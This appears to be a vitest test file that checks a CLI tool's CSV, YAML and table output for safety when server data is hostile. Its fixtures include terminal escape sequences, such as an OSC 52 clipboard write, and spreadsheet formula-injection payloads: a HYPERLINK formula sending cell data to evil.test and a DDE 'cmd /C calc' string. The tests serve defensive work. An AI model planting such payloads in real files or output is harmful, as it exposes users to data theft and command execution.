// Output that any reader takes as meant: readers agnt does not control open what agnt wrote from
// hostile and ambiguous server data, in a pipe (no terminal), and find no control character, no
// spreadsheet formula and no string read as another type.
import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { rig, type Rig } from './setup.ts';
import { plain, runInPty } from '../support/pty.ts';

let r: Rig;
beforeAll(async () => {
  r = await rig();
});
afterAll(async () => {
  await r.dispose();
});
beforeEach(() => r.fs.reset());

// OSC 52 (a clipboard write), a screen clear, C1 CSI and NEL, a carriage return, NUL, DEL, a bidi override.
const EVIL = 'A\x1b]52;c;aGVsbG8=\x07B\x1b[2JC\x9b31mD\x85E\rF\x00G\x7fH\u202eI';
// What a spreadsheet evaluates: OWASP's list of a cell's first characters.
const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];
// Each a string a YAML 1.1 reader (PyYAML) would take as another type, or crash on.
const AMBIGUOUS = [
  'no',
  'yes',
  'on',
  'off',
  'No',
  'OFF',
  'y',
  'n',
  '~',
  'null',
  'true',
  '1_000',
  '1:20',
  '190:20:30',
  '2026-01-01',
  '2026-01-01T10:00:00Z',
  '2026-1-1 10:00:00',
  '=',
  '<<',
  '0o14',
  '0x1F',
  '0b101',
  '012',
  '1e3',
  '1.5',
  '.5',
  '+12',
  '.inf',
  '-.INF',
  '.NaN',
  '',
];

function withNames(names: string[]) {
  return (body: any) => {
    const users = body.users as Array<Record<string, unknown>>;
    const template = users[0]!;
    body.users = names.map((name, i) => ({ ...template, id: `usr_${i}`, name, title: name }));
    return body;
  };
}

// C0 but the line feed that ends a csv record, DEL, C1, line and paragraph separators, bidi controls.
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('-o csv of hostile data, in a pipe', () => {
  it('holds no control character and no formula cell; every value is still there to read', async () => {
    r.fs.rules.push({ method: 'GET', path: /^\/users$/, fault: { kind: 'rewrite', fn: withNames([EVIL, ...FORMULAS]) } });
    const res = await r.run(['users', 'list', '-o', 'csv', '--fields', 'id,name,title']);
    expect(res.exitCode).toBe(0);
    expect(res.stdout).not.toMatch(CONTROL);
    const rows = parseCsv(res.stdout, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(['id', 'name', 'title']);
    expect(rows).toHaveLength(1 + 1 + FORMULAS.length);
    for (const cell of rows.flat()) {
      expect(cell, JSON.stringify(cell)).not.toMatch(CONTROL);
      expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[1]![1]).toBe('A\\e]52;c;aGVsbG8=\\u0007B\\e[2JC\\u009b31mD\\u0085E\\rF\\u0000G\\u007fH\\u202eI');
    // A formula is kept as text: a leading ' (what a spreadsheet shows as the text itself).
    expect(rows.slice(2, 6).map((row) => row[1])).toEqual(FORMULAS.slice(0, 4).map((f) => `'${f}`));
    expect(rows.slice(6).map((row) => row[1])).toEqual(['\\t=1+1', '\\r=1+1']);
  });

  it('--csv-raw writes the bytes as the server sent them', async () => {
    r.fs.rules.push({ method: 'GET', path: /^\/users$/, fault: { kind: 'rewrite', fn: withNames([EVIL, ...FORMULAS]) } });
    const res = await r.run(['users', 'list', '-o', 'csv', '--fields', 'id,name', '--csv-raw']);
    expect(res.exitCode).toBe(0);
    const rows = parseCsv(res.stdout) as string[][];
    expect(rows.slice(1).map((row) => row[1])).toEqual([EVIL, ...FORMULAS]);
  });

  it('--csv-raw with another format is refused before anything is sent', async () => {
    const res = await r.run(['users', 'list', '-o', 'json', '--csv-raw']);
    expect(res.exitCode).toBe(2);
    expect(res.stderr).toMatch(/--csv-raw applies to -o csv/);
  });

  it('a number from the server is a number, not a formula; a list of objects keeps every field as JSON', async () => {
    const phones = [
      { number: '+15550100', type: 'mobile', primary: true },
      { number: '-15550101', type: 'work', primary: false },
    ];
    r.fs.rules.push({ method: 'GET', path: /^\/users$/, fault: { kind: 'rewrite', fn: (b: any) => ({ ...b, users: [{ id: 'usr_1', name: 'Ann', balance: -12, phones, tags: ['a', '=b'] }] }) } });
    const res = await r.run(['users', 'list', '-o', 'csv', '--fields', 'id,balance,phones,tags']);
    expect(res.exitCode).toBe(0);
    const rows = parseCsv(res.stdout) as string[][];
    expect(rows[1]).toEqual(['usr_1', '-12', JSON.stringify(phones), 'a, =b']);
    expect(JSON.parse(rows[1]![2]!)).toEqual(phones);
  });
});

describe('every format, in a pipe', () => {
  it.each(['id', 'table', 'wide', 'json', 'jsonl', 'yaml', 'csv'])('-o %s carries no control or bidi character from the server', async (format) => {
    r.fs.rules.push({
      method: 'GET',
      path: /^\/users$/,
      fault: { kind: 'rewrite', fn: (b: any) => ({ ...b, users: b.users.slice(0, 2).map((u: any, i: number) => ({ ...u, id: `usr_${i}${EVIL}`, name: EVIL })) }) },
    });
    const res = await r.run(['users', 'list', '-o', format]);
    expect(res.exitCode).toBe(0);
    expect(res.stdout.length).toBeGreaterThan(0);
    expect(res.stdout).not.toMatch(CONTROL);
  });
});

describe("a command's own rendering, in a pipe", () => {
  it('escapes server text as a table does (a colour sequence too: agnt colours nothing in a pipe)', async () => {
    r.fs.rules.push({ method: 'GET', path: /^\/assistants\/generate$/, fault: { kind: 'rewrite', fn: (b: any) => ({ ...b, emails: [`sam${EVIL}@acme.test`, 'x\x1b[31mred@acme.test'] }) } });
    const res = await r.run(['assistants', 'generate', '--name', 'Sam']);
    expect(res.exitCode).toBe(0);
    expect(res.stdout).not.toMatch(CONTROL);
    expect(res.stdout).toContain('x\\e[31mred@acme.test');
  });
});

describe('-o yaml of ambiguous values', () => {
  const python = (() => {
    try {
      execFileSync('python3', ['-c', 'import yaml'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();

  // Under CI the reader is installed (.ci/install-shells.sh); elsewhere a machine without it skips.
  it.runIf(python || process.env.CI)('PyYAML (YAML 1.1) reads every string as the string it is, timestamps too', async () => {
    r.fs.rules.push({ method: 'GET', path: /^\/users$/, fault: { kind: 'rewrite', fn: withNames([...AMBIGUOUS, EVIL]) } });
    const res = await r.run(['users', 'list', '-o', 'yaml']);
    expect(res.exitCode).toBe(0);
    // The reader prints each value's type and value as JSON; a crash is a failure too.
    const read = execFileSync(
      'python3',
      ['-c', 'import sys, json, yaml\nfor u in yaml.safe_load(sys.stdin):\n  print(json.dumps({k: [type(v).__name__, v if isinstance(v, str) else repr(v)] for k, v in u.items()}))'],
      { input: res.stdout, encoding: 'utf8' },
    );
    const users = read
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, [string, string]>);
    expect(users.map((u) => u.name)).toEqual([...AMBIGUOUS, EVIL].map((n) => ['str', n]));
    expect(users.map((u) => u.title)).toEqual([...AMBIGUOUS, EVIL].map((n) => ['str', n]));
    for (const u of users) expect(u.createdAt?.[0]).toBe('str');
  });

  it('a YAML 1.2 reader reads the same values', async () => {
    r.fs.rules.push({ method: 'GET', path: /^\/users$/, fault: { kind: 'rewrite', fn: withNames([...AMBIGUOUS, EVIL]) } });
    const res = await r.run(['users', 'list', '-o', 'yaml']);
    const users = parseYaml(res.stdout) as Array<Record<string, unknown>>;
    expect(users.map((u) => u.name)).toEqual([...AMBIGUOUS, EVIL]);
    expect(res.stdout).not.toMatch(CONTROL);
  });
});

describe('a page past the last', () => {
  it('on a terminal says there are no records on that page and how many pages there are', async () => {
    const res = await runInPty(['users', 'list', '--page', '99', '--per-page', '2', '--no-color'], [], r.env());
    expect(res.exitCode).toBe(0);
    expect(plain(res.output)).toMatch(/^no records on page 99: there are \d+ pages of 2 \(\d+ records\)$/m);
  });

  it('in a pipe, stdout stays empty', async () => {
    const res = await r.run(['users', 'list', '--page', '99']);
    expect(res.exitCode).toBe(0);
    expect(res.stdout).toBe('');
  });
});
